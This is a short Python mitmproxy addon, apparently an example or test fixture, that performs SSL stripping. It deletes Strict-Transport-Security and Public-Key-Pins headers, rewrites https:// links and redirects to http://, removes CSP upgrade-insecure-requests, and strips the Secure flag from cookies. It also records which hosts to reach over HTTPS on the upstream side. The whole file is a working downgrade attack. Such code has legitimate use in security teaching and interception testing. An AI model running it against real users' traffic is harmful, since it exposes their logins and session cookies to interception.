import re
import urllib.parse

from mitmproxy import http

secure_hosts: set[str] = set()


def request(flow: http.HTTPFlow) -> None:
    flow.request.headers.pop("If-Modified-Since", None)
    flow.request.headers.pop("Cache-Control", None)
    flow.request.headers.pop("Upgrade-Insecure-Requests", None)
    if flow.request.pretty_host in secure_hosts:
        flow.request.scheme = "https"
        flow.request.port = 443
        flow.request.host = flow.request.pretty_host


def response(flow: http.HTTPFlow) -> None:
    assert flow.response
    flow.response.headers.pop("Strict-Transport-Security", None)
    flow.response.headers.pop("Public-Key-Pins", None)
    flow.response.content = flow.response.content.replace(b"https://", b"http://")
    if re.search(rb'<meta.*http-equiv=["\']Content-Security-Policy[\'"].*upgrade-insecure-requests', flow.response.content, re.I):
        flow.response.content = flow.response.content.replace(b"upgrade-insecure-requests", b"")
    if flow.response.headers.get("Location", "").startswith("https://"):
        location = flow.response.headers["Location"]
        host = urllib.parse.urlparse(location).hostname
        if host:
            secure_hosts.add(host)
        flow.response.headers["Location"] = location.replace("https://", "http://", 1)
    cookies = flow.response.headers.get_all("Set-Cookie")
    flow.response.headers.set_all("Set-Cookie", [re.sub(r";\s*secure\s*", "", s) for s in cookies])
    flow.comment = "stripped"
# expect: f.comment == "stripped" and "cache-control" not in f.request.headers
# live: client == b"hello\n"
